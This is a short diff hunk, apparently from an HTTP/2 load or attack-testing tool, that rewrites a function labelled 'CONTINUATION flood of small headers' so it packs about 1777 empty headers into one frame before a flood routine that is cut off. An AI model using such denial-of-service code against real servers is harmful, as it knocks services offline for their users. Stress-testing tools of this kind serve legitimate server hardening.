@@ -65,8 +65,8 @@ def upload_reset(aggressor):
 
 @attack("CONTINUATION flood of small headers")
 def continuation(aggressor):
-    part = b"".join(http2.header(f"x-{index}", "") for index in range(1500))[:16000]
-    part = part[: part.rindex(b"\0\4x-") if b"\0\4x-" in part else len(part)]
+    # As many headers of 9 bytes as one frame holds.
+    part = b"".join(http2.header(f"x-{index:04}", "") for index in range(1777))
 
     def flood():
         connection = aggressor.connect()
